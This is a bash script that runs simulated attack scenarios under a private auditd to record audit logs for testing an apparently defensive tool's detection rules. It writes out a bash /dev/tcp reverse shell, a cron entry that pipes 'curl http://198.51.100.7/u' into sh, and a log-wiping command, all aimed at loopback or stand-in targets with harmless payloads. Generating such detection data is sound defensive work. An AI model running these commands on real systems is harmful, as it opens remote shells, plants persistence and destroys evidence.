#!/usr/bin/env bash
# Records the audit logs of this folder with a private auditd and Bulkhead's audit rules (see README.md).
# Run as root on a host where no audit daemon runs; audit state (enabled flag, backlog, rules) is restored on exit.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
rules="$here/../../../data/bulkhead.rules"
work=$(mktemp -d)
scratch=/tmp/bulkhead-sparse
status=$(auditctl -s)
[ "$(sed -n 's/^pid //p' <<<"$status")" = 0 ] || { echo "record.sh: an audit daemon already runs" >&2; exit 2; }
[ "$(auditctl -l)" = "No rules" ] || { echo "record.sh: audit rules are loaded; this would remove them" >&2; exit 2; }
was_enabled=$(sed -n 's/^enabled //p' <<<"$status")
was_backlog=$(sed -n 's/^backlog_limit //p' <<<"$status")
pids=()

cleanup() {
  auditctl -D >/dev/null || true
  auditctl -e "$was_enabled" >/dev/null || true
  auditctl -b "$was_backlog" >/dev/null || true
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  rm -rf "$scratch" /etc/cron.d/bulkhead-sparse-updater /var/log/bulkhead-sparse-app.log "$work"
}
trap cleanup EXIT

# auditd writing to $work in the enriched format, with a node name on every record
sed -E '/^\s*(log_file|log_format|flush|freq|name_format|name)\s*=/d' /etc/audit/auditd.conf >"$work/auditd.conf"
printf 'log_file = %s\nlog_format = ENRICHED\nflush = INCREMENTAL_ASYNC\nfreq = 1\nname_format = USER\nname = build-host\n' \
  "$work/audit.log" >>"$work/auditd.conf"
chmod 640 "$work/auditd.conf"
auditd -n -c "$work" & pids+=($!)
for _ in $(seq 50); do [ -s "$work/audit.log" ] && break; sleep 0.1; done

# what the scenarios fetch, served on loopback; the reverse-shell listener on the first non-loopback address
mkdir -p "$scratch/srv/pkg/bin" "$scratch/build" "$scratch/pm"
cp /usr/bin/id "$scratch/srv/update"
cp /usr/bin/true "$scratch/srv/pkg/bin/tool"
printf '{"name":"tool","version":"1.0.0","bin":{"tool":"bin/tool"},"scripts":{"postinstall":"node check.js"}}\n' >"$scratch/srv/pkg/package.json"
printf 'require("child_process").execFileSync(require("path").join(__dirname, "bin", "tool"));\n' >"$scratch/srv/pkg/check.js"
tar -C "$scratch/srv" -czf "$scratch/srv/tool-1.0.0.tgz" pkg
mkdir -p "$scratch/srv/hello-1.0"
printf '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n' >"$scratch/srv/hello-1.0/hello.c"
printf '#!/bin/sh\necho "CFLAGS = -O2" > config.mk\n' >"$scratch/srv/hello-1.0/configure"
chmod +x "$scratch/srv/hello-1.0/configure"
printf 'include config.mk\nhello: hello.c\n\t$(CC) $(CFLAGS) -o $@ hello.c\n' >"$scratch/srv/hello-1.0/Makefile"
tar -C "$scratch/srv" -czf "$scratch/srv/hello-1.0.tgz" hello-1.0
python3 -m http.server 8931 --bind 127.0.0.1 --directory "$scratch/srv" >/dev/null 2>&1 & pids+=($!)
addr=$(hostname -I | tr ' ' '\n' | grep -v ':' | grep -v '^127\.' | head -1)
python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], 8932)); s.listen(1)
c, _ = s.accept(); c.sendall(b"id\nexit\n")
while c.recv(4096): pass
' "$addr" & pids+=($!)
echo "old entry" >/var/log/bulkhead-sparse-app.log
sleep 1

auditctl -e 1 >/dev/null
# rules for paths this host lacks would stop auditctl -R: load the others
while read -r line; do
  path=$(sed -n 's/^-w \([^ ]*\) .*/\1/p' <<<"$line")
  [ -z "$path" ] || [ -e "$path" ] || continue
  echo "$line"
done <"$rules" | grep -v '^#' | grep . >"$work/loadable.rules"
auditctl -R "$work/loadable.rules" >/dev/null

cd "$scratch" # the working directory every record's CWD shows
# each scenario in an audit session of its own (a write to loginuid opens one, as a login does), with a plain
# PATH and a HOME without start-up files (a .bashrc would add hundreds of unrelated execs)
scenario() {
  env -i PATH=/usr/sbin:/usr/bin:/sbin:/bin HOME="$scratch" \
    bash -c 'echo 0 >/proc/self/loginuid; cat /proc/self/sessionid >"$1"; exec bash -c "$2"' _ "$work/$1.ses" "$2" \
    >/dev/null 2>&1 || true
  sleep 0.5
}
scenario download-chmod-exec "curl -s -o $scratch/update http://127.0.0.1:8931/update; chmod +x $scratch/update; $scratch/update"
scenario reverse-shell "bash -i >& /dev/tcp/$addr/8932 0>&1"
scenario cron-persistence "echo '*/10 * * * * root curl -s http://198.51.100.7/u | sh' >/etc/cron.d/bulkhead-sparse-updater"
scenario log-tampering ": >/var/log/bulkhead-sparse-app.log; rm -f /var/log/bulkhead-sparse-app.log"
scenario package-unpack "curl -s -o $scratch/tool-1.0.0.tgz http://127.0.0.1:8931/tool-1.0.0.tgz; npm install --prefix $scratch/pm $scratch/tool-1.0.0.tgz --no-audit --no-fund --offline; $scratch/pm/node_modules/.bin/tool"
scenario build-own-binaries "cd $scratch/build; curl -s -o hello-1.0.tgz http://127.0.0.1:8931/hello-1.0.tgz; tar xzf hello-1.0.tgz; cd hello-1.0; ./configure; make hello; ./hello"
sleep 2
auditctl -D >/dev/null

for f in "$work"/*.ses; do
  name=$(basename "$f" .ses)
  ausearch -if "$work/audit.log" --session "$(cat "$f")" --raw >"$here/$name.log" || true
  echo "$name: $(grep -c . "$here/$name.log") records"
done
